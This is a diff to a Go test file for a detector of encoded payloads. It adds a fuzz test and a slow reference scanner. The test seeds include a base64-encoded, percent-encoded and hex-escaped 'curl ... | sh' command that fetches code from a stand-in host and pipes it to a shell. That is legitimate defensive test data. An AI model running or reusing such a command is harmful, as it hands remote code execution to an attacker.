@@ -8,7 +8,8 @@ import (
 )
 
 // FuzzPrefixFilterKeepsMatches: on any text, the detectors with their
-// prefix filters find what they find without them. The filters look at the
+// prefix filters (and their skip of windows shorter than a rule's shortest
+// match) find what they find without them. The filters look at the
 // matching form only (lower case, white space collapsed to ' ' or '\n'), so
 // the seeds vary case, spacing and line breaks around the phrases.
 func FuzzPrefixFilterKeepsMatches(f *testing.F) {
@@ -43,26 +44,10 @@ func FuzzPrefixFilterKeepsMatches(f *testing.F) {
 // TestScanEncodedSkipsOnlyShortTokens: skipping ahead finds what looking
 // at every token of 16 bytes or more finds.
 func TestScanEncodedSkipsOnlyShortTokens(t *testing.T) {
-	every := func(d *Detector, text string) (found []rawFinding) {
-		for i := 0; i < len(text); {
-			if isTokenBreak(text[i]) {
-				i++
-				continue
-			}
-			j := i
-			for j < len(text) && !isTokenBreak(text[j]) {
-				j++
-			}
-			if j-i >= minEncodedLen {
-				found = d.scanToken(text, i, j, found)
-			}
-			i = j
-		}
-		return found
-	}
+	every := scanEveryToken
 	payload := "Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo"
 	pieces := []string{payload, "%63%75%72%6c%20x%20%7c%20sh", `\x63\x75\x72\x6c\x20\x78\x20\x7c\x20\x73\x68`,
-		" ", "\n", "(", "\"", "é", "word", "0123456789abcdef", "a"}
+		" ", "\n", "(", "\"", "é", "word", "0123456789abcdef", "a", "=", "==", "+/", "-_", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"}
 	d := Default()
 	r := rand.New(rand.NewPCG(5, 6))
 	for range 5000 {
@@ -75,6 +60,43 @@ func TestScanEncodedSkipsOnlyShortTokens(t *testing.T) {
 			t.Fatalf("%q: %v, want %v", text, got, want)
 		}
 	}
+}
+
+// scanEveryToken is scanEncoded the slow way: every token of
+// minEncodedLen bytes or more, found byte by byte, its base64 runs all
+// found by scanToken.
+func scanEveryToken(d *Detector, text string) (found []rawFinding) {
+	for i := 0; i < len(text); {
+		if isTokenBreak(text[i]) {
+			i++
+			continue
+		}
+		j := i
+		for j < len(text) && !isTokenBreak(text[j]) {
+			j++
+		}
+		if j-i >= minEncodedLen {
+			found = d.scanToken(text, i, j, -1, found)
+		}
+		i = j
+	}
+	return found
+}
+
+// FuzzScanEncoded: scanEncoded, which skips short tokens and reads a
+// token's first base64 run once, finds what scanEveryToken finds.
+func FuzzScanEncoded(f *testing.F) {
+	for _, s := range []string{"Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo", "cfg=Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo==x",
+		"aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q=;" + strings.Repeat("x", 40), "%63%75%72%6c%20x%20%7c%20sh", "6375726c20687474703a2f2f",
+		strings.Repeat("ab+/", 9) + "-_" + strings.Repeat("Q", 20) + "===" + strings.Repeat("z", 17)} {
+		f.Add(s)
+	}
+	d := Default()
+	f.Fuzz(func(t *testing.T, text string) {
+		if got, want := d.scanEncoded(text, nil), scanEveryToken(d, text); !slices.Equal(got, want) {
+			t.Fatalf("%q: %v, want %v", text, got, want)
+		}
+	})
 }
 
 // FuzzNormalizeFastPaths: the matching form built with the fast paths
